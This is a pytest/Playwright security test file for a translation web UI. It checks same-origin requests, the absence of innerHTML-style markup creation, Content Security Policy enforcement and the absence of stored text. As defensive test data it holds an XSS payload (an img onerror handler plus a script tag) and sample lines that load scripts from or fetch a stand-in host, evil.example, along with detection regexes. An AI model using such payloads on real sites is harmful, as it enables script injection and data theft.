"""The web page and the API page send requests only to their server, and no text becomes markup."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from app.api.page import FOLDER
from tests.api.server_process import ServerProcess
from tests.web.conftest import OpenUi
from tests.web.page_object import TranslatePage

# An address of another host: either with its scheme, or without a scheme after a quote or "=".
OTHER_HOST = re.compile(r"""https?://|wss?://|@import|url\(\s*['"]?//|["'`=]\s*//[\w\[]""")
SCRIPT = '<img src=x onerror="window.ran = true"><script>window.ran = true</script>'


@pytest.mark.parametrize("path", ["/", "/docs"])
def test_a_visit_sends_requests_only_to_this_server(
    open_ui: OpenUi, model_server: ServerProcess, path: str
) -> None:
    """The fixture records and checks every request of the browser."""
    ui = open_ui(model_server)
    ui.page.goto(f"{ui.url}{path}", wait_until="networkidle")
    assert f"{ui.url}{path}" in ui.urls


def test_nothing_in_the_files_names_another_host() -> None:
    files = sorted(file for file in FOLDER.rglob("*") if file.is_file())
    assert {".html", ".css", ".js", ".svg"} == {file.suffix for file in files}
    for file in files:
        text = file.read_text("utf-8").replace("http://www.w3.org/2000/svg", "")
        assert not OTHER_HOST.search(text), file.name


@pytest.mark.parametrize(
    "code",
    [
        '<a href="https://evil.example/">',
        '<script src="//evil.example/x.js">',
        "<script src=//evil.example/x.js>",
        "fetch('//evil.example/t')",
        "fetch(`//[::1]/t`)",
        'new WebSocket("wss://evil.example")',
        "@import 'x.css'",
        "background: url( //evil.example/x.png)",
    ],
)
def test_the_pattern_of_other_hosts_finds_each_form(code: str) -> None:
    assert OTHER_HOST.search(code)


@pytest.mark.parametrize("file", sorted(FOLDER.rglob("*.js")), ids=lambda file: file.name)
def test_no_script_creates_markup_from_text(file: Path) -> None:
    text = file.read_text("utf-8")
    assert not re.search(
        r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function", text
    )


def test_the_content_security_policy_forbids_inline_scripts_and_other_hosts(ui: TranslatePage) -> None:
    """It also forbids making markup from text."""
    refused = ui.page.evaluate(
        """async () => {
          const found = [];
          try { document.body.innerHTML = "<b>x</b>"; } catch (error) { found.push(error.name); }
          window.ran = false;
          const script = document.createElement("script");
          try { script.textContent = "window.ran = true"; } catch (error) { found.push(error.name); }
          document.body.append(script);
          const image = await new Promise((resolve) => {
            document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
              if (effectiveDirective === "img-src") resolve(effectiveDirective);
            });
            const image = document.createElement("img");
            image.src = "http://127.0.0.1:9/x.png";
          });
          return { found, ran: window.ran, image };
        }"""
    )
    assert refused["found"] == ["TypeError", "TypeError"]
    assert refused["ran"] is False
    assert refused["image"] == "img-src"
    ui.urls.remove("http://127.0.0.1:9/x.png")  # recorded before the policy blocked it


def test_the_content_security_policy_forbids_a_script_in_the_markup(ui: TranslatePage) -> None:
    with ui.page.expect_response(f"{ui.url}/") as loaded:
        ui.page.reload()
    policy = {"content-security-policy": loaded.value.headers["content-security-policy"]}
    html = "<!doctype html><script>window.ran = true</script>"
    ui.page.route(
        f"{ui.url}/", lambda route: route.fulfill(headers=policy, content_type="text/html", body=html)
    )
    ui.page.goto(f"{ui.url}/")
    assert ui.page.content().count("window.ran = true") == 1
    assert ui.page.evaluate("() => window.ran") is None


@pytest.mark.parametrize("format_name", ["text", "html"])
def test_markup_is_shown_and_never_run(ui: TranslatePage, format_name: str) -> None:
    ui["format"].select_option(format_name)
    ui.type(f"It is late. {SCRIPT} It is late.")
    expect(ui["target"]).to_contain_text("Es ist spät.")
    expect(ui["target"]).to_have_attribute("aria-busy", "false")
    assert ui.page.locator("main img, main script").count() == 0
    assert ui.page.evaluate("() => window.ran") is None


def test_a_servers_message_is_shown_as_text(open_ui: OpenUi, model_server: ServerProcess) -> None:
    def respond_with_markup(page: Page) -> None:
        body = {"error": {"code": "invalid_request", "message": SCRIPT, "request_id": "1"}}
        page.route("**/v1/translate/stream", lambda route: route.fulfill(status=422, json=body))

    ui = open_ui(model_server, before=respond_with_markup).ready()
    ui.type("It is late.")
    expect(ui["problem-text"]).to_contain_text("<img src=x")
    assert ui.page.locator(".problem img").count() == 0
    assert ui.page.evaluate("() => window.ran") is None


def test_no_text_is_stored(ui: TranslatePage) -> None:
    ui.type("It is late.")
    ui.shows("Es ist spät.")
    stored = ui.page.evaluate(
        """async () => {
          const cached = await caches.keys();
          return [localStorage.length, sessionStorage.length, document.cookie, location.href, cached.length];
        }"""
    )
    assert stored == [0, 0, "", f"{ui.url}/", 0]
    kept = {"source": "en", "target": "de", "beam": "4"}
    assert ui.page.evaluate("() => history.state") == kept
